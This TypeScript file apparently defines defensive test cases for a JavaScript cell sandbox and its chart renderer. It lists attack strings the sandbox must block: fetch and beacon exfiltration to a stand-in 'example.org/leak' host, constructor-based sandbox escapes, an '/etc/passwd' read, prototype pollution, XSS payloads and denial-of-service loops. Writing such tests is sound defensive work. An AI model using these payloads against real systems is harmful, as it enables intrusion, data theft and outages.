/** One try to break out of a cell, or to bring the page down from it. */
export interface Attempt {
  readonly name: string;
  /** Code of the cell; it gives “escaped” if it got what it wanted. */
  readonly source: string;
  /** How it must end: `any` where both a value and an error are fine, as long as the value is not “escaped”. */
  readonly ends: "any" | "error" | "stopped" | "done";
  /** Words that the message must have. */
  readonly says?: RegExp;
}

const reach = (expression: string): string =>
  `let got = "nothing"; try { got = ${expression} } catch (error) { throw error } got == null ? "nothing" : "escaped"`;
const door = (name: string, expression: string, says: RegExp): Attempt => ({
  name,
  source: reach(expression),
  ends: "error",
  says
});
const network = /cannot reach the network/;
const page = /cannot touch the page/;
const storage = /cannot keep anything/;
const programs = /cannot start other programs/;
const code = /cannot load other code/;

/** Doors to the network, the page, its storage and other programs. */
const doors: readonly Attempt[] = [
  door("fetch", `await fetch("https://example.org/leak")`, network),
  door("XMLHttpRequest", `new XMLHttpRequest()`, network),
  door("WebSocket", `new WebSocket("wss://example.org")`, network),
  door("EventSource", `new EventSource("https://example.org")`, network),
  door("a beacon", `navigator.sendBeacon("https://example.org/leak", "x")`, page),
  door("an image that loads", `new Image().src = "https://example.org/leak"`, page),
  door("document", `document.body`, page),
  door("window", `window.location`, page),
  door("the window around", `parent.document`, page),
  door("the window above", `top.location`, page),
  door("the window that opened this one", `opener.document`, page),
  door("a new window", `open("https://example.org")`, page),
  door("a dialog", `alert("hello")`, page),
  door("cookies", `document.cookie`, page),
  door("localStorage", `localStorage.getItem("x")`, storage),
  door("sessionStorage", `sessionStorage.length`, storage),
  door("IndexedDB", `indexedDB.open("x")`, storage),
  door("caches", `caches.open("x")`, storage),
  door("a worker", `new Worker("x.js")`, programs),
  door("importScripts", `importScripts("https://example.org/x.js")`, programs),
  door("a message to the page", `postMessage({type: "ready"}, "*")`, programs),
  door("Node's process", `process.env`, code),
  door("Node's require", `require("node:fs")`, code),
  {name: "import", source: `import fs from "node:fs"\nfs`, ends: "error", says: code},
  {name: "dynamic import", source: `await import("https://example.org/x.js")`, ends: "error", says: code},
  {name: "dynamic import from eval", source: `await eval("import('node:fs')"); "escaped"`, ends: "error"},
  {
    name: "dynamic import from Function",
    source: `await Function("return import('data:text/javascript,1')")(); "escaped"`,
    ends: "error"
  },
  {name: "WebAssembly", source: `new WebAssembly.Memory({initial: 1}); "escaped"`, ends: "error"},
  {
    name: "shared memory",
    source: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); "escaped"`,
    ends: "any"
  }
];

const host = `g && (g.process || g.document || g.WorkerGlobalScope || g.parentPort || g.host || g.box)`;
const globalOf = (maker: string): string =>
  `let g; try { g = ${maker}; g = (${host}) ? "escaped" : "inside" } catch (error) { g = "inside" } g`;

/** Ways to the host through constructors, prototypes, stacks and the few functions that come from outside. */
const escapes: readonly Attempt[] = [
  {
    name: "the constructor of a constructor",
    source: globalOf(`({}).constructor.constructor("return globalThis")()`),
    ends: "any"
  },
  {name: "Function", source: globalOf(`Function("return this")()`), ends: "any"},
  {
    name: "the constructor of an async function",
    source: globalOf(`await (async () => {}).constructor("return globalThis")()`),
    ends: "any"
  },
  {
    name: "the constructor of a generator",
    source: globalOf(`(function* () {}).constructor("yield globalThis")().next().value`),
    ends: "any"
  },
  {
    name: "the constructor of console.log",
    source: globalOf(`console.log.constructor("return globalThis")()`),
    ends: "any"
  },
  {name: "the constructor of extract", source: globalOf(`extract.constructor("return globalThis")()`), ends: "any"},
  {name: "the constructor of display", source: globalOf(`display.constructor("return globalThis")()`), ends: "any"},
  {
    name: "the caller of a function",
    source: globalOf(`(function () { return arguments.callee.caller.constructor("return globalThis")() })()`),
    ends: "any"
  },
  {
    name: "the stack of an error",
    source: `Error.prepareStackTrace = (_, frames) => frames; const frames = new Error().stack; const f = frames?.[0]?.getThis?.(); f ? "escaped" : "inside"`,
    ends: "any"
  },
  {
    name: "the host's own functions",
    source: `Object.getOwnPropertyNames(globalThis).some((name) => name === "host" || name === "box") ? "escaped" : "inside"`,
    ends: "any"
  },
  {
    name: "arquero's way to load a file",
    source: `await aq.loadCSV("https://example.org/x.csv"); "escaped"`,
    ends: "error"
  },
  {name: "arquero's way to load a file from disk", source: `await aq.load("/etc/passwd"); "escaped"`, ends: "error"}
];

/** Values that might change the host when they are read there. */
const pollution: readonly Attempt[] = [
  {
    name: "__proto__ in JSON",
    source: `JSON.parse('{"__proto__": {"polluted": true}, "a": {"__proto__": {"polluted": true}}}')`,
    ends: "done"
  },
  {
    name: "__proto__ in a chart",
    source: `({mark: "bar", data: {values: [{a: 1}]}, ...JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'), encoding: {x: {field: "a"}}})`,
    ends: "done"
  },
  {
    name: "the prototypes of the box",
    source: `Object.prototype.polluted = true; Array.prototype.polluted = true; 1`,
    ends: "any"
  },
  {name: "a getter that throws", source: `({get a() { throw new Error("no") }, b: 1})`, ends: "done"},
  {
    name: "a proxy with traps",
    source: `new Proxy({}, {get: (_, key) => key === "then" ? undefined : () => "x", ownKeys: () => ["a", "b"], getOwnPropertyDescriptor: () => ({value: 1, enumerable: true, configurable: true})})`,
    ends: "any"
  },
  {
    name: "an object in a circle",
    source: `const o = {name: "o"}; o.self = o; o.list = [o, [o]]; display(o)`,
    ends: "done"
  },
  {
    name: "toJSON that lies",
    source: `({toJSON: () => ({shown: [{kind: "chart", spec: {}}]}), kind: "table"})`,
    ends: "any"
  },
  {
    name: "reports forged with JSON.stringify",
    source: `JSON.stringify = () => '{"report":{"id":"good","shown":[{"kind":"value","type":"string","text":"forged","value":"forged"}],"logs":"<img src=x onerror=polluted=1>","error":null}}'; 1`,
    ends: "any"
  },
  {name: "reports that are no JSON", source: `JSON.stringify = () => "}{"; 1`, ends: "any"},
  {
    name: "arrays that report themselves",
    source: `Array.prototype.map = function () { return ["<script>polluted=1</script>"] }; [1, 2]`,
    ends: "any"
  },
  {
    name: "a promise that is always pending",
    source: `await new Promise(() => {})`,
    ends: "error",
    says: /never finishes/
  }
];

/** Code that does not end. */
const endless: readonly Attempt[] = [
  {name: "a loop", source: `while (true) {}`, ends: "stopped"},
  {name: "a loop after an await", source: `await null; for (;;) {}`, ends: "stopped"},
  {
    name: "a loop that catches what stops it",
    source: `while (true) { try { while (true) {} } catch {} finally { continue } }`,
    ends: "stopped"
  },
  {name: "a loop in a getter, when the value is read", source: `({get a() { while (true) {} }})`, ends: "stopped"},
  {
    name: "a loop in toString",
    source: `quotes.derive({x: aq.escape(() => ({toString() { while (true) {} }}))}).orderby("x")`,
    ends: "any"
  },
  {
    name: "promises that go on for ever",
    source: `const again = () => Promise.resolve().then(again); await again()`,
    // each waits for the next, so that either the time or the memory is used up first
    ends: "any"
  },
  {name: "a timer that sets a timer", source: `const tick = () => setTimeout(tick, 0); tick(); 1`, ends: "done"},
  {name: "a generator without end", source: `(function* () { let i = 0; while (true) yield i++ })()`, ends: "any"},
  {name: "a pattern that backtracks", source: `/^(a+)+$/.test("a".repeat(40) + "b")`, ends: "stopped"},
  {
    name: "a comparison that never settles",
    source: `Array.from({length: 1e5}, (_, i) => i).sort(() => { for (;;); })`,
    ends: "stopped"
  },
  {name: "a native call that fills", source: `new Array(2 ** 31).fill(0).length`, ends: "any"},
  {name: "a native call that multiplies", source: `(3n ** (10n ** 7n)).toString().length`, ends: "any"},
  {
    name: "a function that calls itself",
    source: `const f = () => f() + 1; f()`,
    ends: "any",
    says: /calls itself without end|nests or repeats too deeply/
  },
  {name: "brackets without end", source: `eval("(".repeat(1e6))`, ends: "any"},
  {
    name: "a list in a list in a list",
    source: `let a = []; for (let i = 0; i < 1e6; i++) a = [a]; JSON.stringify(a).length`,
    ends: "any"
  }
];

/** Code that fills the memory or the page. */
const floods: readonly Attempt[] = [
  {name: "lists without end", source: `const a = []; while (true) a.push(new Array(10000).fill({}))`, ends: "stopped"},
  {
    name: "a typed array for each step",
    source: `const a = []; while (true) a.push(new Uint8Array(1e6))`,
    ends: "stopped",
    says: /256 MB/
  },
  {name: "a text that doubles", source: `let s = "x"; while (true) s += s`, ends: "any"},
  {
    name: "closures without end",
    source: `const f = []; while (true) { const x = new Array(1000).fill(f.length); f.push(() => x) }`,
    ends: "stopped"
  },
  {name: "100 MB of text", source: `"x".repeat(1e8)`, ends: "any"},
  {name: "100 MB of log", source: `for (let i = 0; i < 1000; i++) console.log("x".repeat(1e5)); 1`, ends: "any"},
  {name: "a table of a million rows", source: `aq.table({a: new Float64Array(1e6)})`, ends: "any"},
  {
    name: "an object with a million fields",
    source: `const o = {}; for (let i = 0; i < 3e5; i++) o["k" + i] = i; display(o)`,
    ends: "any"
  },
  {name: "ten thousand displays", source: `for (let i = 0; i < 1e4; i++) display(i)`, ends: "any"}
];

/** Markup in everything that is shown. */
const markup: readonly Attempt[] = [
  {name: "HTML in text", source: `"<img src=x onerror=polluted=1><script>polluted=1</script>"`, ends: "done"},
  {
    name: "HTML in a table",
    source: `aq.table({"<img src=x onerror=polluted=1>": ["<svg onload=polluted=1>"]})`,
    ends: "done"
  },
  {
    name: "HTML in a tree",
    source: `({"<img src=x onerror=polluted=1>": {a: "<script>polluted=1</script>"}})`,
    ends: "done"
  },
  {name: "HTML in a log", source: `console.log("<img src=x onerror=polluted=1>"); 1`, ends: "done"},
  {name: "HTML in an error", source: `throw new Error("<img src=x onerror=polluted=1>")`, ends: "error"},
  {name: "HTML in a name", source: `quotes["<img src=x onerror=polluted=1>"]()`, ends: "error"}
];

const spec = (more: string): string =>
  `({mark: "bar", data: {values: [{a: 1, b: "x"}]}, encoding: {x: {field: "a", type: "quantitative"}}, ${more}})`;

/** Charts that load, lead away or run code: they leave the box as plain data, and are refused or drawn without it. */
export const charts: readonly Attempt[] = [
  {
    name: "data from an address",
    source: spec(`data: {url: "https://example.org/leak.json"}`),
    ends: "done",
    says: /not from an address/
  },
  {
    name: "a lookup in data from an address",
    source: spec(
      `transform: [{lookup: "b", from: {data: {url: "https://example.org/leak.json"}, key: "b", fields: ["c"]}}]`
    ),
    ends: "done",
    says: /not from an address/
  },
  {
    name: "links on marks",
    source: spec(`mark: {type: "bar", href: "javascript:polluted=1"}`),
    ends: "done",
    says: /no links/
  },
  {
    name: "a link in an encoding",
    source: `({mark: "point", data: {values: [{a: 1}]}, encoding: {x: {field: "a"}, href: {value: "javascript:polluted=1"}}})`,
    ends: "done",
    says: /no links/
  },
  {
    name: "pictures",
    source: spec(`mark: {type: "image", url: "https://example.org/leak.png"}`),
    ends: "done",
    says: /not from an address|no pictures/
  },
  {
    name: "expression code that calls constructors",
    source: spec(`transform: [{calculate: "datum.constructor.constructor('return self')()", as: "c"}]`),
    ends: "done",
    says: /.+/
  },
  {
    name: "an expression that names globals",
    source: spec(`transform: [{filter: "window.polluted = 1"}]`),
    ends: "done",
    says: /.+/
  },
  {
    name: "HTML in a title",
    source: spec(`title: "</text><script>polluted=1</script><img src=x onerror=polluted=1>"`),
    ends: "done"
  },
  {
    name: "HTML in a label",
    source: `({mark: "bar", data: {values: [{a: "</text><image href='https://example.org/leak.png'/>", b: 2}]}, encoding: {y: {field: "a"}, x: {field: "b", type: "quantitative"}}})`,
    ends: "done"
  },
  {
    name: "a colour with an address",
    source: spec(`mark: {type: "bar", fill: "url(https://example.org/leak.svg#a)"}`),
    ends: "done"
  },
  {
    name: "a sequence of a thousand million",
    source: spec(`data: {sequence: {start: 0, stop: 1e9}}`),
    ends: "done",
    says: /at most 20000 steps/
  },
  {
    name: "a hundred thousand marks",
    source: `({mark: "point", data: {values: Array.from({length: 1e5}, (_, i) => ({a: i}))}, encoding: {x: {field: "a", type: "quantitative"}}})`,
    ends: "any"
  },
  {
    name: "a chart of a million pixels",
    source: spec(`width: 1e6, height: 1e6`),
    ends: "done",
    says: /at most 4000 pixels/
  },
  {
    name: "a usermeta with embed options",
    source: spec(`usermeta: {embedOptions: {loader: {http: {}}, actions: true, defaultStyle: "*{display:none}"}}`),
    ends: "done"
  }
];

/** Every attempt whose code runs in the box. */
export const attempts: readonly Attempt[] = [
  ...doors,
  ...escapes,
  ...pollution,
  ...endless,
  ...floods,
  ...markup,
  ...charts
];
